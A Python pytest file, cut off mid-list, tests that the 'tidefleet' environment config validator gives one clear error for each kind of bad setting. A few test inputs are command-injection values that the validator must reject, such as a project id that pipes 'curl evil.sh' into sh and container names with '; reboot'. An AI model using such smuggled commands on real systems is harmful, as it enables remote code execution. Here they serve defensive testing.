"""Environment files: the shipped ones load; every kind of mistake gets one clear line."""

from __future__ import annotations

import copy
import tomllib
from pathlib import Path

import pytest

from tidefleet.config import ConfigError, known_environments, load_environment, parse_environment

ROOT = Path(__file__).resolve().parents[1] / "environments"
BASE = tomllib.loads((ROOT / "dev.toml").read_text())
GCP_BASE = tomllib.loads((ROOT / "gcp-dev.toml").read_text())


def test_every_shipped_environment_loads():
    assert {"sandbox", "dev", "prod"} <= set(known_environments(ROOT))
    for name in known_environments(ROOT):
        env = load_environment(name, ROOT)
        assert env.name == name and env.pools and env.queues


def test_alerts_are_optional_and_prod_and_gcp_dev_have_some():
    assert load_environment("dev", ROOT).alerts.email == [] and load_environment("dev", ROOT).alerts.webhooks == []
    for name in ("prod", "gcp-dev"):
        alerts = load_environment(name, ROOT).alerts
        assert alerts.email and alerts.webhooks


def test_prod_has_cpu_and_gpu_pools_and_prioritised_queues():
    env = load_environment("prod", ROOT)
    assert set(env.pools) == {"cpu", "gpu", "gpu4"}
    assert len({q.priority for q in env.queues.values()}) >= 3
    assert env.state.backend == "s3" and env.state.lock_table


def _with(base=BASE, **changes):
    """dev.toml (or `base`) with nested changes, e.g. _with(**{"pools.cpu.max": -1}); None deletes."""
    data = copy.deepcopy(base)
    for dotted, value in changes.items():
        *parents, leaf = dotted.split(".")
        node = data
        for key in parents:
            node = node.setdefault(key, {})
        if value is None:
            node.pop(leaf, None)
        else:
            node[leaf] = value
    return data


BAD = [
    # (case, change, expected fragment of the single message)
    ("unknown pool in queue", {"queues.default.pool": "gpu"}, "queues.default.pool: unknown pool (got 'gpu'); known pools: cpu"),
    ("min above max", {"pools.cpu.min": 5, "pools.cpu.max": 2}, "pools.cpu.max: must be >= min (got 2 < 5)"),
    ("empty instance list", {"pools.cpu.instance_types": []}, "pools.cpu.instance_types: List should have at least 1 item"),
    ("negative item timeout", {"queues.default.item_timeout_s": -5}, "queues.default.item_timeout_s: Input should be greater than or equal to 1 (got -5)"),
    ("negative idle timeout", {"pools.cpu.idle_timeout_s": -1}, "pools.cpu.idle_timeout_s: Input should be greater than or equal to 0"),
    ("bad region", {"region": "us-east"}, "region: not a known aws region (got 'us-east'); use one like 'us-east-1'"),
    ("unknown top-level key", {"regoin": "us-east-1"}, "regoin: unknown key"),
    ("unknown pool key", {"pools.cpu.max_nodes": 3}, "pools.cpu.max_nodes: unknown key"),
    ("string for int", {"pools.cpu.max": "10"}, "pools.cpu.max: Input should be a valid integer (got '10')"),
    ("float for int", {"pools.cpu.min": 1.5}, "pools.cpu.min: Input should be a valid integer"),
    ("bad capacity unit", {"pools.cpu.capacity_unit": "cores"}, "pools.cpu.capacity_unit: Input should be 'nodes', 'vcpus' or 'gpus' (got 'cores')"),
    ("on-demand percent over 100", {"pools.cpu.on_demand_percent": 150}, "pools.cpu.on_demand_percent: Input should be less than or equal to 100 (got 150)"),
    ("on-demand base over max", {"pools.cpu.on_demand_base": 20}, "pools.cpu.on_demand_base: must be <= max (got 20 > 10)"),
    ("both command and container", {"pools.cpu.container": "busybox"}, "pools.cpu: set exactly one of 'command' or 'container' (got both)"),
    ("neither command nor container", {"pools.cpu.command": None}, "pools.cpu: set exactly one of 'command' or 'container' (got neither)"),
    ("duplicate instance type", {"pools.cpu.instance_types": [{"type": "c6i.large"}, {"type": "c6i.large"}]}, "pools.cpu.instance_types[1].type: duplicate instance type (got 'c6i.large')"),
    ("bad instance type", {"pools.cpu.instance_types": [{"type": "large"}]}, "pools.cpu.instance_types[0].type: not an AWS instance type (got 'large')"),
    ("unknown price", {"pools.cpu.instance_types": [{"type": "x9z.huge"}]}, "pools.cpu.instance_types[0].on_demand_price: no built-in price for 'x9z.huge'"),
    ("bad image", {"pools.cpu.image": "ubuntu"}, "pools.cpu.image: not an AMI id or ssm:/ parameter (got 'ubuntu')"),
    ("queue name collides with a dead-letter queue", {"queues.default-dlq": {"pool": "cpu"}}, "queues.default: the SQS queue name 'tidefleet-dev-default-dlq' is also queues.default-dlq's; rename one of them"),
    ("bad pool name", {"pools.CPU_Pool": BASE["pools"]["cpu"], "queues.default.pool": "CPU_Pool", "pools.cpu": None}, "pools.CPU_Pool: bad name (got 'CPU_Pool')"),
    ("zero retries above cap", {"queues.default.max_retries": 1000}, "queues.default.max_retries: Input should be less than or equal to 100 (got 1000)"),
    ("gang min above max", {"queues.default.nodes_per_item": {"min": 4, "max": 2}, "queues.default.slots_per_item": 2}, "queues.default.nodes_per_item: min must be <= max (got min 4 > max 2)"),
    ("gang min above a max of 1", {"queues.default.nodes_per_item": {"min": 2, "max": 1}}, "queues.default.nodes_per_item: min must be <= max (got min 2 > max 1)"),
    ("gang member smaller than a node", {"queues.default.nodes_per_item": 2}, "queues.default.nodes_per_item: each gang member takes a whole node, so slots_per_item must equal every type's slots (got slots_per_item 1, nodes with 2 slots in pool 'cpu'); set slots_per_item to the node's slots"),
    ("pool of max 0 with a queue", {"pools.cpu.max": 0}, "pools.cpu.max: 0 launches no node, so the items of queue 'default' can never run (got 0); raise max to at least 1 (one c6i.large node) or move the queue to another pool"),
    ("pool of max 0 with a gang queue", {"pools.cpu.max": 0, "queues.default.nodes_per_item": 2, "queues.default.slots_per_item": 2, "queues.batch": {"pool": "cpu"}}, "pools.cpu.max: 0 launches no node, so the items of queues 'default', 'batch' can never run (got 0); raise max to at least 1 (one c6i.large node) or move the queues to another pool"),
    ("gang larger than its pool", {"queues.default.nodes_per_item": 11, "queues.default.slots_per_item": 2}, "queues.default.nodes_per_item: a gang of 11 nodes needs 11 capacity units at once (got pool 'cpu' max 10); raise the pool's max or lower the gang's size"),
    ("no nodes per item", {"queues.default.nodes_per_item": 0}, "queues.default.nodes_per_item: nodes per item must be 1 to 1000 (got 0)"),
    ("on demand after zero interruptions", {"queues.default.on_demand_after_interruptions": 0}, "queues.default.on_demand_after_interruptions: Input should be greater than or equal to 1 (got 0)"),
    ("on demand after too many interruptions", {"queues.default.on_demand_after_interruptions": 101}, "queues.default.on_demand_after_interruptions: Input should be less than or equal to 100 (got 101)"),
    ("on demand placement for a gang", {"queues.default.on_demand_after_interruptions": 2, "queues.default.nodes_per_item": 2, "queues.default.slots_per_item": 2}, "queues.default.on_demand_after_interruptions: a multi-node item's members join on any node, spot or not (got 2 with nodes_per_item 2); remove it or run the item on one node"),
    ("a preemptible gang", {"queues.default.preemptible": True, "queues.default.nodes_per_item": 2, "queues.default.slots_per_item": 2}, "queues.default.preemptible: preempting a multi-node item would stop its lead alone, not its members on the other nodes (got true with nodes_per_item 2); remove preemptible or run the item on one node"),
    ("s3 state without bucket", {"state.backend": "s3"}, "state.bucket: required for backend 's3' (got nothing)"),
    ("unknown state backend", {"state.backend": "consul"}, "state.backend: Input should be 'local', 's3' or 'gcs' (got 'consul')"),
    ("gpu weight not gpu count", {"pools.cpu.capacity_unit": "gpus", "pools.cpu.instance_types": [{"type": "g5.12xlarge", "weight": 1, "gpus": 4}], "pools.cpu.slots_per_unit": 1}, "pools.cpu.instance_types[0].weight: with capacity_unit 'gpus' the weight is the GPU count (got weight 1, gpus 4)"),
    ("gpus on a type without any", {"pools.cpu.instance_types": [{"type": "m7a.large", "weight": 1, "gpus": 1, "on_demand_price": 0.1, "spot_price": 0.05}], "pools.cpu.slots_per_unit": 1}, "pools.cpu.instance_types[0].gpus: m7a.large has 0 GPUs (got 1); its nodes would take no items; set gpus = 0 or pick a type with 1"),
    ("types with and without GPUs", {"pools.cpu.instance_types": [{"type": "g5.xlarge", "weight": 1, "gpus": 1}, {"type": "c6i.large", "weight": 1}], "pools.cpu.slots_per_unit": 1}, "pools.cpu.instance_types: mixes types with GPUs (g5.xlarge) and without (c6i.large); items that need a GPU would land on nodes without one, and one image boots the pool; split them into pools"),
    ("item needs more slots than any node", {"queues.default.slots_per_item": 8}, "queues.default.slots_per_item: nodes of c6i.large, c7i.large, m6i.large in pool 'cpu' have fewer slots (got 8 > 2)"),
    ("reserved env var", {"pools.cpu.env": {"TIDEFLEET_JOB_ID": "x"}}, "pools.cpu.env.TIDEFLEET_JOB_ID: not a usable variable name"),
    ("gcp without project", {"cloud": "gcp", "region": "us-central1", "pools.cpu.instance_types": [{"type": "n2-standard-4"}], "pools.cpu.image": "projects/debian-cloud/global/images/family/debian-12"}, "project: required when cloud = 'gcp'"),
    ("no pools", {"pools": {}}, "pools: Dictionary should have at least 1 item"),
    ("wrong type for tags", {"tags": "ml"}, "tags: Input should be a valid dictionary (got 'ml')"),
    ("vpc cidr too big for the stack", {"network.vpc_cidr": "10.0.0.0/8"}, "network.vpc_cidr: must be an IPv4 network from /16 to /24 (got '10.0.0.0/8')"),
    ("aws tag prefix", {"tags": {"aws:owner": "me"}}, "tags.aws:owner: reserved tag key (got 'aws:owner')"),
    # regions: a list, not a pattern
    ("region that looks real", {"region": "us-north-9"}, "region: not a known aws region (got 'us-north-9')"),
    ("region with a trailing newline", {"region": "us-east-1\n"}, "region: not a known aws region (got 'us-east-1\\n')"),
    ("gcp region on aws", {"region": "us-central1"}, "region: not a known aws region (got 'us-central1')"),
    ("state region unknown", {"state": {"backend": "s3", "bucket": "acme-state", "region": "eu-middle-1"}}, "state.region: not a known aws region (got 'eu-middle-1')"),
    ("state bucket not a bucket name", {"state": {"backend": "s3", "bucket": "Acme_State"}}, "state.bucket: not a bucket name (got 'Acme_State')"),
    # derived names must fit the cloud's limits
    ("environment name overflows the S3 bucket", {"name": "a" * 31}, f"name: the S3 artifacts bucket (with a 12-digit account id) name 'tidefleet-{'a' * 31}-artifacts-123456789012' is 64 characters; AWS allows 3-63 (got environment name '{'a' * 31}'); shorten the environment name by 1 character"),
    ("pool name overflows the node's IAM role", {"name": "e" * 30, "pools.cpu": None, "pools.inference-gpu-large": BASE["pools"]["cpu"], "queues.default.pool": "inference-gpu-large"}, f"pools.inference-gpu-large: the IAM role name 'tidefleet-{'e' * 30}-inference-gpu-large-node' is 65 characters; AWS allows 1-64 (got pool name 'inference-gpu-large'); shorten the pool name or the environment name by 1 character"),
    ("environment name with an uppercase letter", {"name": "Dev"}, "name: bad environment name (got 'Dev')"),
    # sizes and numbers
    ("pool max beyond an Auto Scaling group", {"pools.cpu.max": 20000}, "pools.cpu.max: 20000 nodes of weight 1 is over the 10000 of an Auto Scaling group (got 20000)"),
    ("infinite spot max price", {"pools.cpu.spot_max_price": float("inf")}, "pools.cpu.spot_max_price: Input should be a finite number (got inf)"),
    ("nan on-demand price", {"pools.cpu.instance_types": [{"type": "c6i.large", "on_demand_price": float("nan")}]}, "pools.cpu.instance_types[0].on_demand_price: Input should be a finite number (got nan)"),
    ("infinite cost cap", {"scaler.cost_cap_usd_per_hour": float("inf")}, "scaler.cost_cap_usd_per_hour: Input should be a finite number (got inf)"),
    ("boot estimate above boot timeout", {"pools.cpu.boot_estimate_s": 900}, "pools.cpu.boot_estimate_s: must be <= boot_timeout_s (got 900 > 600)"),
    ("boot timeout too short", {"pools.cpu.boot_timeout_s": 10}, "pools.cpu.boot_timeout_s: Input should be greater than or equal to 30 (got 10)"),
    ("zero tick", {"scaler.tick_s": 0}, "scaler.tick_s: Input should be greater than or equal to 1 (got 0)"),
    ("negative tick", {"scaler.tick_s": -60}, "scaler.tick_s: Input should be greater than or equal to 1 (got -60)"),
    ("negative scale-in delay", {"scaler.scale_in_delay_s": -1}, "scaler.scale_in_delay_s: Input should be greater than or equal to 0 (got -1)"),
    ("negative re-tick", {"scaler.waiting_tick_s": -5}, "scaler.waiting_tick_s: Input should be greater than or equal to 0 (got -5)"),
    ("re-tick as text", {"scaler.waiting_tick_s": "soon"}, "scaler.waiting_tick_s: Input should be a valid integer"),
    ("checkpoint-and-move with nothing preemptible", {"pools.cpu.checkpoint_and_move": True}, "pools.cpu.checkpoint_and_move: no queue of pool 'cpu' is preemptible, so nothing can move (got true); set preemptible = true on the queues whose items checkpoint, or remove it"),
    ("negative cooldown", {"scaler.scale_out_cooldown_s": -30}, "scaler.scale_out_cooldown_s: Input should be greater than or equal to 0 (got -30)"),
    ("negative spot fallback", {"scaler.spot_fallback_after_s": -1}, "scaler.spot_fallback_after_s: Input should be greater than or equal to 0 (got -1)"),
    ("negative spot failure window", {"scaler.spot_failure_window_s": -1}, "scaler.spot_failure_window_s: Input should be greater than or equal to 0 (got -1)"),
    ("scale-in delay of years", {"scaler.scale_in_delay_s": 10**9}, "scaler.scale_in_delay_s: Input should be less than or equal to 86400 (got 1000000000)"),
    ("zero item timeout", {"queues.default.item_timeout_s": 0}, "queues.default.item_timeout_s: Input should be greater than or equal to 1 (got 0)"),
    ("negative boot estimate", {"pools.cpu.boot_estimate_s": -5}, "pools.cpu.boot_estimate_s: Input should be greater than or equal to 0 (got -5)"),
    # what runs per item
    ("command with an unclosed quote", {"pools.cpu.command": "python3 -c 'print(1)"}, "pools.cpu.command: not shell words (No closing quotation) (got \"python3 -c 'print(1)\")"),
    ("empty command", {"pools.cpu.command": ""}, "pools.cpu.command: empty (got '')"),
    ("blank command", {"pools.cpu.command": "  \t "}, "pools.cpu.command: empty (got '  \\t ')"),
    ("container with uppercase repository", {"pools.cpu.command": None, "pools.cpu.container": "ghcr.io/Acme/train:1.0"}, "pools.cpu.container: not an image reference (got 'ghcr.io/Acme/train:1.0')"),
    ("container with a shell command", {"pools.cpu.command": None, "pools.cpu.container": "train:1.0; reboot"}, "pools.cpu.container: not an image reference (got 'train:1.0; reboot')"),
    ("container with an empty tag", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu:"}, "pools.cpu.container: not an image reference (got 'ubuntu:')"),
    ("container with a short digest", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu@sha256:abc"}, "pools.cpu.container: not an image reference (got 'ubuntu@sha256:abc')"),
    ("container tag over 128 characters", {"pools.cpu.command": None, "pools.cpu.container": "ubuntu:" + "t" * 129}, "pools.cpu.container: not an image reference (got 'ubuntu:ttt"),
    ("container with a leading slash", {"pools.cpu.command": None, "pools.cpu.container": "/ubuntu"}, "pools.cpu.container: not an image reference (got '/ubuntu')"),
    ("init script ending the boot script's heredoc", {"pools.cpu.init_script": "echo hi\nTIDEFLEET_INIT_SCRIPT\nreboot"}, "pools.cpu.init_script: may not contain TIDEFLEET_INIT_SCRIPT (got 'echo hi\\nTIDEFLEET_INIT_SCRIPT\\nreboot')"),
    ("init script with a NUL", {"pools.cpu.init_script": "echo \0"}, "pools.cpu.init_script: may not contain a NUL character (got 'echo \\x00')"),
    ("env value with a newline", {"pools.cpu.env": {"A": "one\ntwo"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'one\\ntwo')"),
    ("env value with a carriage return", {"pools.cpu.env": {"A": "one\rtwo"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'one\\rtwo')"),
    ("env value with a NUL", {"pools.cpu.env": {"A": "x\0"}}, "pools.cpu.env.A: a value must be one line without NUL (got 'x\\x00')"),
    ("env name with a trailing newline", {"pools.cpu.env": {"A\n": "x"}}, "pools.cpu.env.A\n: not a usable variable name (got 'A\\n')"),
    # tags
    ("tag key tidefleet sets itself", {"tags": {"tidefleet:env": "x"}}, "tags.tidefleet:env: reserved tag key (got 'tidefleet:env')"),
    ("tag key with a character AWS refuses", {"tags": {"owner!": "me"}}, "tags.owner!: not an AWS tag key (got 'owner!')"),
    ("tag key over 128 characters", {"tags": {"k" * 129: "v"}}, f"tags.{'k' * 129}: not an AWS tag key (got '{'k' * 129}')"),
    ("tag value over 256 characters", {"tags": {"owner": "v" * 257}}, f"tags.owner: not an AWS tag value (got '{'v' * 257}')"),
    ("tag value with a newline", {"tags": {"owner": "me\n"}}, "tags.owner: not an AWS tag value (got 'me\\n')"),
    # names with a trailing newline (re.match(...$) accepted them)
    ("pool name with a trailing newline", {"pools.cpu\n": BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "cpu\n"}, "pools.cpu\n: bad name (got 'cpu\\n')"),
    ("queue name with a trailing newline", {"queues.q\n": {"pool": "cpu"}}, "queues.q\n: bad name (got 'q\\n')"),
    ("team with a trailing newline", {"pools.cpu.team": "ml\n"}, "pools.cpu.team: bad team name (got 'ml\\n')"),
    ("queue team with a space", {"queues.default.team": "ml ops"}, "queues.default.team: bad team name (got 'ml ops')"),
    ("instance type with a trailing newline", {"pools.cpu.instance_types": [{"type": "c6i.large\n"}]}, "pools.cpu.instance_types[0].type: not an AWS instance type (got 'c6i.large\\n')"),
    ("AMI id with a trailing newline", {"pools.cpu.image": "ami-0123456789abcdef0\n"}, "pools.cpu.image: not an AMI id or ssm:/ parameter (got 'ami-0123456789abcdef0\\n')"),
    # networks
    ("cidr with host bits set", {"network.vpc_cidr": "10.80.0.1/16"}, "network.vpc_cidr: not a network (got '10.80.0.1/16')"),
    ("cidr prefix 33", {"network.vpc_cidr": "10.80.0.0/33"}, "network.vpc_cidr: not a network (got '10.80.0.0/33')"),
    ("cidr octet 300", {"network.vpc_cidr": "10.300.0.0/16"}, "network.vpc_cidr: not a network (got '10.300.0.0/16')"),
    ("ipv6 cidr", {"network.vpc_cidr": "fd00::/48"}, "network.vpc_cidr: must be an IPv4 network from /16 to /24 (got 'fd00::/48')"),
    ("subnet that is not a subnet id", {"network.subnet_ids": ["subnet-xyz"]}, "network.subnet_ids[0]: not an AWS subnet (got 'subnet-xyz')"),
    ("gs:// data on aws", {"pools.cpu.data": {"read": ["gs://team/data/"]}}, "pools.cpu.data.read[0]: not an s3:// location (got 'gs://team/data/')"),
    ("data bucket in uppercase", {"pools.cpu.data": {"write": ["s3://Team-Data/x/"]}}, "pools.cpu.data.write[0]: not a bucket name (got 's3://Team-Data/x/')"),
    ("data prefix not a folder", {"pools.cpu.data": {"read": ["s3://team-data/imagenet"]}}, "pools.cpu.data.read[0]: a prefix must be a folder ending in '/'"),
    ("data prefix with a wildcard", {"pools.cpu.data": {"read": ["s3://team-data/*/"]}}, "pools.cpu.data.read[0]: a prefix must be a folder ending in '/' without '*'"),
    ("data prefix climbing out", {"pools.cpu.data": {"read": ["s3://team-data/a/../b/"]}}, "pools.cpu.data.read[0]: a prefix must be a folder"),
    ("mount without a shared fs", {"pools.cpu.data": {"shared_fs_mount": "/mnt/shared"}}, "pools.cpu.data.shared_fs_mount: no [shared_fs] in this environment (got '/mnt/shared')"),
    ("mount over a system folder", {"shared_fs": {"kind": "efs"}, "pools.cpu.data": {"shared_fs_mount": "/usr"}}, "pools.cpu.data.shared_fs_mount: must be an absolute path of its own, not a system folder or one inside it, nor the agent's /opt/tidefleet (got '/usr'); e.g. '/mnt/shared'"),
    ("mount inside a system folder", {"shared_fs": {"kind": "efs"}, "pools.cpu.data": {"shared_fs_mount": "/usr/bin"}}, "pools.cpu.data.shared_fs_mount: must be an absolute path of its own, not a system folder or one inside it, nor the agent's /opt/tidefleet (got '/usr/bin')"),
    ("mount over the agent", {"shared_fs": {"kind": "efs"}, "pools.cpu.data": {"shared_fs_mount": "/opt/tidefleet"}}, "(got '/opt/tidefleet')"),
    ("mount inside the agent", {"shared_fs": {"kind": "efs"}, "pools.cpu.data": {"shared_fs_mount": "/opt/tidefleet/venv/"}}, "(got '/opt/tidefleet/venv/')"),
    ("mount over the item user's home", {"shared_fs": {"kind": "efs"}, "pools.cpu.data": {"shared_fs_mount": "/var/lib/tidefleet-item"}}, "(got '/var/lib/tidefleet-item')"),
    ("shared fs nobody mounts", {"shared_fs": {"kind": "efs"}}, "shared_fs: no pool mounts it"),
    ("filestore on aws", {"shared_fs": {"kind": "filestore", "size_gb": 1024}, "pools.cpu.data": {"shared_fs_mount": "/mnt/x"}}, "shared_fs.kind: not available on aws (got 'filestore'); use one of efs, fsx-lustre"),
    ("lustre of an odd size", {"shared_fs": {"kind": "fsx-lustre", "size_gb": 1000}, "pools.cpu.data": {"shared_fs_mount": "/mnt/x"}}, "shared_fs.size_gb: FSx for Lustre takes 1200 or a multiple of 2400 GiB (got 1000)"),
    ("efs with a size", {"shared_fs": {"kind": "efs", "size_gb": 100}, "pools.cpu.data": {"shared_fs_mount": "/mnt/x"}}, "shared_fs.size_gb: EFS grows with its data (got 100)"),
    ("efa without cluster placement", {"pools.cpu.efa": True}, "pools.cpu.efa: needs cloud 'aws' and placement 'cluster' (got cloud 'aws', placement 'spread')"),
    ("cluster placement with burstable types", {"pools.cpu.placement": "cluster", "pools.cpu.instance_types": [{"type": "t3.large"}]}, "pools.cpu.placement: a cluster placement group cannot hold burstable types (got t3.large)"),
    ("gpu slots that do not divide", {"pools.cpu.instance_types": [{"type": "g5.12xlarge", "weight": 1, "gpus": 4}], "pools.cpu.slots_per_unit": 3}, "pools.cpu.instance_types[0]: 3 slots cannot split 4 GPUs evenly"),
    ("shared gpus without saying so", {"pools.cpu.instance_types": [{"type": "g5.xlarge", "weight": 1, "gpus": 1}], "pools.cpu.slots_per_unit": 4}, "pools.cpu.instance_types[0]: 4 slots on 1 GPU would put several items on one GPU (got slots_per_unit 4); set gpu_sharing = true"),
    ("unknown placement", {"pools.cpu.placement": "pack"}, "pools.cpu.placement: Input should be 'spread' or 'cluster' (got 'pack')"),
    # alerts
    ("alert email without a domain", {"alerts.email": ["oncall"]}, "alerts.email[0]: not an email address (got 'oncall'); use an address like oncall@example.com"),
    ("alert email with a newline", {"alerts.email": ["a@b.example\nBcc: x@y.example"]}, "alerts.email[0]: not an email address (got 'a@b.example\\nBcc: x@y.example')"),
    ("alert webhook over plain http", {"alerts.webhooks": ["http://hooks.example/x"]}, "alerts.webhooks[0]: not an https URL (got 'http://hooks.example/x'); use an https:// URL (SNS and Cloud Monitoring refuse plain http)"),
    ("alert webhook with a terraform interpolation", {"alerts.webhooks": ["https://hooks.example/${var.x}"]}, "alerts.webhooks[0]: not an https URL (got 'https://hooks.example/${var.x}')"),
    ("alert email listed twice", {"alerts.email": ["a@b.example", "a@b.example"]}, "alerts.email: listed twice (got 'a@b.example'); list each once"),
    ("alert email as a string", {"alerts.email": "a@b.example"}, "alerts.email: Input should be a valid list (got 'a@b.example')"),
    ("unknown alerts key", {"alerts.slack": "#oncall"}, "alerts.slack: unknown key"),
    ("queue max wait under a minute", {"queues.default.max_wait_s": 10}, "queues.default.max_wait_s: Input should be greater than or equal to 60 (got 10)"),
    # schedules: one line each, naming the field, the value and the fix
    ("schedule with neither cron nor rate", {"schedules.merge": {"queue": "default", "items": ["s3://b/m"]}}, "schedules.merge: set exactly one of 'cron' or 'rate' (got neither)"),
    ("schedule with both cron and rate", {"schedules.merge": {"cron": "0 3 * * *", "rate": "1 day", "queue": "default", "items": ["x"]}}, "schedules.merge: set exactly one of 'cron' or 'rate' (got both)"),
    ("cron with six fields", {"schedules.merge": {"cron": "0 0 3 * * *", "queue": "default", "items": ["x"]}}, "schedules.merge.cron: not a 5-field cron, has 6 field(s), not 5"),
    ("cron hour 24", {"schedules.merge": {"cron": "0 24 * * *", "queue": "default", "items": ["x"]}}, "schedules.merge.cron: not a 5-field cron, hour: '24' is outside 0-23 (got '0 24 * * *')"),
    ("cron on the 31st of February", {"schedules.merge": {"cron": "0 0 31 2 *", "queue": "default", "items": ["x"]}}, "schedules.merge.cron: not a 5-field cron, matches no date"),
    ("rate without a unit", {"schedules.merge": {"rate": "10", "queue": "default", "items": ["x"]}}, "schedules.merge.rate: not a rate (got '10'); write 'N minutes', 'N hours' or 'N days'"),
    ("cron with day of month and of week", {"schedules.merge": {"cron": "0 0 1 * 1", "queue": "default", "items": ["x"]}}, "schedules.merge.cron: on aws restrict the day of month or the day of week, not both (got '0 0 1 * 1'); set one of them to '*'"),
    ("schedule on an unknown queue", {"schedules.merge": {"rate": "10 hours", "queue": "gpu", "items": ["x"]}}, "schedules.merge.queue: unknown queue (got 'gpu'); known queues: default"),
    ("schedule without items", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": []}}, "schedules.merge.items: List should have at least 1 item"),
    ("schedule item that is an empty list", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": [[]]}}, "schedules.merge.items[0]: an item is a URI or a non-empty list of args without NUL (got [])"),
    ("unknown admission", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": ["x"], "admission": "wait"}}, "schedules.merge.admission: Input should be 'skip' or 'queue' (got 'wait')"),
    ("timeout under a minute", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": ["x"], "timeout_s": 5}}, "schedules.merge.timeout_s: Input should be greater than or equal to 60 (got 5)"),
    ("schedule name in capitals", {"schedules.Merge": {"rate": "10 hours", "queue": "default", "items": ["x"]}}, "schedules.Merge: bad name (got 'Merge')"),
    # what the stack would drop or the cloud refuse at apply time
    ("a zone on aws", {"pools.cpu.zone": "us-east-1a"}, "pools.cpu.zone: only for cloud 'gcp' (got 'us-east-1a'); an AWS pool launches in its subnets' zones, a cluster pool in the first one's: remove zone"),
    ("gcs state on aws", {"state": {"backend": "gcs", "bucket": "acme-state"}}, "state.backend: not available on aws (got 'gcs'); use 'local' or 's3'"),
    ("lock table on local state", {"state": {"lock_table": "locks"}}, "state.lock_table: not read by backend 'local' (got 'locks'); remove it, or use backend 's3'"),
    ("state path on s3", {"state": {"backend": "s3", "bucket": "acme-state", "path": "x.tfstate"}}, "state.path: not read by backend 's3' (got 'x.tfstate'); remove it, or use backend 'local'"),
    ("queue named like the functions' failure queue", {"queues.function-failures": {"pool": "cpu"}}, "queues.function-failures: the SQS queue name 'tidefleet-dev-function-failures' is also the stack's own; rename 'function-failures'"),
    ("pool min costing more than its cap", {"pools.cpu.min": 8, "pools.cpu.cost_cap_usd_per_hour": 0.2}, "pools.cpu.min: 8 units cost at least 0.272 USD/hour, above the pool's cost_cap_usd_per_hour 0.2, and the group is always kept at min (got min 8); lower min or raise the cap"),
    ("pools' min costing more than the environment cap", {"pools.cpu.min": 8, "scaler.cost_cap_usd_per_hour": 0.2}, "scaler.cost_cap_usd_per_hour: below what the pools' min units cost at least (0.272 USD/hour), which are always kept (got 0.2); raise the cap or lower the pools' min"),
    ("pool cost cap below its cheapest node", {"pools.cpu.cost_cap_usd_per_hour": 0.001}, "pools.cpu.cost_cap_usd_per_hour: below the pool's cheapest node (got 0.001, the cheapest is 0.034 USD/hour); the pool would never launch"),
    ("misspelt scaler key", {"scaler.scale_in_dealy_s": 300}, "scaler.scale_in_dealy_s: unknown key; did you mean 'scale_in_delay_s'? (got 300)"),
    ("gang size as text", {"queues.default.nodes_per_item": "2"}, "queues.default.nodes_per_item: Input should be a valid integer, or a valid dictionary (got '2')"),
    ("tick of a minute and a half", {"scaler.tick_s": 90}, "scaler.tick_s: above 60 it must be a whole number of minutes, as the scheduler fires on minutes (got 90); use e.g. 60"),
    ("a project on aws", {"project": "acme-ml-dev"}, "project: only for cloud 'gcp' (got 'acme-ml-dev'); remove it"),
    ("a network shape beside existing subnets", {"network.subnet_ids": ["subnet-0123456789abcdef0"], "network.vpc_cidr": "10.9.0.0/16"}, "network.vpc_cidr: not read with subnet_ids, as the stack creates no network (got '10.9.0.0/16'); remove it"),
    ("a subnet listed twice", {"network.subnet_ids": ["subnet-0123456789abcdef0"] * 2}, "network.subnet_ids: subnet-0123456789abcdef0 listed twice; list each subnet once"),
    ("a link-local network", {"network.vpc_cidr": "169.254.0.0/16"}, "network.vpc_cidr: a loopback, link-local, multicast or reserved range, which neither cloud gives a network (got '169.254.0.0/16'); use a private one such as '10.80.0.0/16'"),
    ("a loopback network", {"network.vpc_cidr": "127.0.0.0/16"}, "network.vpc_cidr: a loopback, link-local, multicast or reserved range"),
    ("a multicast network", {"network.vpc_cidr": "224.0.0.0/16"}, "network.vpc_cidr: a loopback, link-local, multicast or reserved range"),
    ("a public IP in the created VPC", {"pools.cpu.public_ip": True}, "pools.cpu.public_ip: the VPC the stack creates puts nodes in private subnets, where a public IP is never reached (their traffic leaves through its NAT gateway) (got true); remove it, or launch in public subnets of your own with network.subnet_ids"),
    ("gpu sharing without GPUs", {"pools.cpu.gpu_sharing": True}, "pools.cpu.gpu_sharing: no instance type of the pool has GPUs to share (got true); remove it, or set gpus on the types"),
    ("an empty image pattern", {"queues.default.accept_images": ["ghcr.io/acme/*", " "]}, "queues.default.accept_images[1]: an empty pattern matches no image (got ''); remove it"),
    ("an empty scheduled item", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": [""]}}, "schedules.merge.items[0]: an item is a URI or a non-empty list of args without NUL (got '')"),
    ("more GPUs than the type has", {"pools.cpu.instance_types": [{"type": "c6i.large", "gpus": 4, "weight": 4}], "pools.cpu.slots_per_unit": 1}, "pools.cpu.instance_types[0].gpus: c6i.large has 0 GPUs (got 4); its nodes would take no items; set gpus = 0 or pick a type with 4"),
    ("environment cost cap below every node", {"scaler.cost_cap_usd_per_hour": 0.0001}, "scaler.cost_cap_usd_per_hour: below the cheapest node of any pool (got 0.0001, the cheapest is 0.034 USD/hour); nothing would ever launch"),
    ("a node quota of 0 for the only team of a pool", {"teams.ml": {"quota": {"nodes": 0}}}, "teams.ml.quota.nodes: 0 leaves the team's queues on pool cpu (default) no slot, and no other team there has a quota to lend them one, so they never run; raise it to at least 1 (one slot)"),
]

GCP_BAD = [
    ("project id with a newline and a command", {"project": "acme-ml-dev\ncurl evil.sh|sh"}, "project: not a GCP project id (got 'acme-ml-dev\\ncurl evil.sh|sh')"),
    ("project id too short", {"project": "acme"}, "project: not a GCP project id (got 'acme')"),
    ("project id with uppercase", {"project": "Acme-ML"}, "project: not a GCP project id (got 'Acme-ML')"),
    ("project id with quotes", {"project": 'acme"; reboot; "'}, "project: not a GCP project id (got 'acme\"; reboot; \"')"),
    ("aws region on gcp", {"region": "us-east-1"}, "region: not a known gcp region (got 'us-east-1'); use one like 'us-central1'"),
    ("gcp region that looks real", {"region": "us-central9"}, "region: not a known gcp region (got 'us-central9')"),
